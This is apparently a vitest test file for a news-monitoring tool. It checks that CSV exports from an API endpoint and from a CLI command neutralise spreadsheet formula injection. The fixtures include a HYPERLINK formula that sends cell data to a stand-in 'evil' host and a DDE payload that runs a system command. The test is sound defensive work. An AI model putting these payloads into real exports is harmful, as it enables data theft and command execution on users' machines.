import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApi } from '../../src/api/build-api.js';
import { openStore, type Store } from '../../src/store/store.js';
import type { ArticleInput } from '../../src/store/types.js';
import { FIXTURE_ARTICLES, filledDb, type FilledDb } from './store-fixture.js';

// Issue 11, item 3: feed text that a spreadsheet would run as a formula goes out
// neutralised, in `/events.csv` and in `newsmon events --format csv` alike.

const repoRoot = join(import.meta.dirname, '..', '..');
const bin = join(repoRoot, 'bin', 'newsmon.js');
const built = existsSync(join(repoRoot, 'dist', 'src', 'cli', 'main.js'));

const hostileSentence = '=HYPERLINK("http://evil/?"&A1,"Click") Huawei said 5 GW.';
const base = FIXTURE_ARTICLES[0] as ArticleInput;
const hostile: ArticleInput = {
  ...base,
  url: 'https://news.example.com/hostile',
  canonicalUrl: 'https://news.example.com/hostile',
  feedItemId: 'hostile-1',
  title: '@SUM(1+1)*cmd|" /C calc"!A0',
  contentHash: '9'.repeat(64),
  text: hostileSentence,
  mentions: [],
  powerFigures: [],
  events: [{ sentence: 0, text: hostileSentence, entities: ['huawei'], tags: ['power'], powerFigures: [] }],
};

const neutralised = [`"'=HYPERLINK(""http://evil/?""&A1,""Click"") Huawei said 5 GW."`, `"'@SUM(1+1)*cmd|"" /C calc""!A0"`];

function csvOfCli(db: string): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(process.execPath, [bin, 'events', '--db', db, '--format', 'csv', '--entity', 'huawei'], { cwd: repoRoot, encoding: 'utf8', timeout: 60_000 }, (err, stdout) =>
      err ? reject(err) : resolve(stdout),
    );
  });
}

describe('CSV formula injection', () => {
  let db: FilledDb;
  let store: Store;
  let app: FastifyInstance;

  beforeAll(async () => {
    db = filledDb([...FIXTURE_ARTICLES, hostile]);
    store = openStore(db.dbPath, { readonly: true });
    app = buildApi({ store, now: () => new Date('2025-03-02T00:00:00Z'), closeStore: true });
    await app.ready();
  });
  afterAll(async () => {
    await app.close();
    db.cleanup();
  });

  it('/events.csv neutralises formula cells and keeps ids as numbers', async () => {
    const res = await app.inject({ url: '/events.csv?entity=huawei' });
    expect(res.statusCode).toBe(200);
    for (const cell of neutralised) expect(res.body).toContain(cell);
    expect(res.body).not.toMatch(/(^|,)=HYPERLINK/m);
    const ids = res.body.trimEnd().split('\n').slice(1).map((line) => line.split(',')[0]);
    for (const id of ids) expect(id).toMatch(/^\d+$/);
  });

  it.skipIf(!built)('newsmon events --format csv prints the same neutralised cells (needs dist/)', async () => {
    const csv = await csvOfCli(db.dbPath);
    for (const cell of neutralised) expect(csv).toContain(cell);
    const api = await app.inject({ url: '/events.csv?entity=huawei' });
    expect(csv).toBe(api.body);
  });
});
